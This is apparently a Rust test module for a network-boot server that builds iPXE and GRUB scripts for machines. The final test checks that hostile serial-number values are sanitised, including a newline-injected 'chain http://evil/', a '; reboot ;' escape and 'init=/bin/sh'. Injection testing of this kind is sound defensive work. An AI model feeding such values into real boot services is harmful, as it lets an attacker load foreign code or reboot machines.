use super::*;
use common::{
    MachineId, Name,
    rack_config::{
        BootParts,
        boot::{BootProfile, Loaders},
    },
};

fn template(text: &str) -> Template {
    text.parse().unwrap()
}

fn name(text: &str) -> Name {
    text.parse().unwrap()
}

/// Machine n1 (…:01) with a profile of this target; everybody else has none.
fn config(target: BootTarget) -> BootConfig {
    let profile = BootProfile { target, loaders: Loaders::new() };
    BootConfig::new(BootParts {
        profiles: [(name("own"), profile)].into(),
        machines: vec![BootMachine {
            id: MachineId::new(Uuid::nil()),
            name: name("n1"),
            macs: vec![MacAddr::new([2, 0, 0, 0, 0, 1])],
            uuid: Some(Uuid::from_u128(7)),
            profile: Some(name("own")),
        }],
        ..BootParts::default()
    })
    .unwrap()
}

fn asker(last: u8, serial: &str) -> Asker<'_> {
    Asker {
        mac: Some(MacAddr::new([2, 0, 0, 0, 0, last])),
        uuid: None,
        serial,
        architecture: Some(Architecture::UefiX64),
        address: [10, 0, 0, 9].into(),
        server: [10, 0, 0, 2].into(),
        url: "http://10.0.0.2:7280/boot",
    }
}

fn kernel() -> BootTarget {
    BootTarget::Kernel {
        kernel: template("debian/vmlinuz"),
        initrds: vec![template("debian/initrd"), template("https://other.example/x/{name}.gz")],
        command_line: template("console=ttyS0 host={name} sn={serial} a=$b;c"),
    }
}

#[test]
fn a_kernel_for_ipxe() {
    let script = ipxe(&config(kernel()), &asker(1, "S 1"));
    let expected = "#!ipxe
echo Hostler: booting n1
kernel http://10.0.0.2:7280/boot/debian/vmlinuz initrd=initrd0 initrd=initrd1 console=ttyS0 host=n1 sn=S_1 a=$b;c || goto failed
initrd --name initrd0 http://10.0.0.2:7280/boot/debian/initrd || goto failed
initrd --name initrd1 https://other.example/x/n1.gz || goto failed
boot || goto failed
";
    assert_eq!(script.split(":failed").next(), Some(expected));
    assert!(script.contains(
        "chain --replace --autofree http://10.0.0.2:7280/boot/script?serial=${serial:uristring}&mac=02:00:00:00:00:01&arch=uefi-x64 ||"
    ));
}

#[test]
fn a_kernel_for_grub() {
    let expected = "linux /debian/vmlinuz console=ttyS0 host=n1 sn=S_1 'a=$b;c'
initrd /debian/initrd (https,other.example)/x/n1.gz
boot
";
    let script = grub(&config(kernel()), &asker(1, "S 1"));
    assert_eq!(
        script,
        expected.replace("(https,other.example)/x/n1.gz", "'(https,other.example)/x/n1.gz'")
    );
}

#[test]
fn who_is_unknown_is_told_who_it_is_and_asks_again() {
    for (last, uuid, known) in [(1, None, true), (2, None, false), (2, Some(7), true)] {
        let asker = Asker { uuid: uuid.map(Uuid::from_u128), ..asker(last, "SN-1") };
        for script in [ipxe(&config(kernel()), &asker), grub(&config(kernel()), &asker)] {
            assert_eq!(!script.contains("has no boot profile"), known, "{script}");
            if !known {
                for said in ["02:00:00:00:00:02", "SN-1", "sleep 20"] {
                    assert!(script.contains(said), "{said}: {script}");
                }
            }
        }
    }
}

#[test]
fn other_targets() {
    let own = config(BootTarget::Script(template("echo {name} {{}}")));
    assert_eq!(ipxe(&own, &asker(1, "")), "#!ipxe\necho n1 {}\n");
    assert!(grub(&own, &asker(1, "")).contains("loader that is iPXE"));
    let own = config(BootTarget::Script(template("#!ipxe\necho {server}\n")));
    assert_eq!(ipxe(&own, &asker(1, "")), "#!ipxe\necho 10.0.0.2\n");
    let local = config(BootTarget::LocalDisk);
    assert!(ipxe(&local, &asker(1, "")).contains("sanboot"));
    assert!(grub(&local, &asker(1, "")).ends_with("exit\n"));
}

#[test]
fn a_stranger_injects_nothing() {
    let hostile = [
        "x\nchain http://evil/",
        "x || chain http://evil/ ||",
        "${next-server}",
        "' ; reboot ; '",
        "init=/bin/sh \"",
        "{name}",
        "\u{202e}é\0",
        &"A".repeat(5000),
    ];
    let everywhere = config(BootTarget::Script(template("echo [{serial}]")));
    for serial in hostile {
        let script = ipxe(&everywhere, &asker(1, serial));
        let inside = script.trim_start_matches("#!ipxe\necho [").trim_end_matches("]\n");
        let plain = |c: char| c.is_ascii_alphanumeric() || "-._:+".contains(c);
        assert!(inside.len() <= 128 && inside.chars().all(plain), "{script}");
        let (quiet, loud) = (asker(2, "S"), asker(2, serial));
        for write in [ipxe, grub] {
            let lines = |asker| write(&everywhere, asker).lines().count();
            assert_eq!(lines(&quiet), lines(&loud));
        }
    }
}
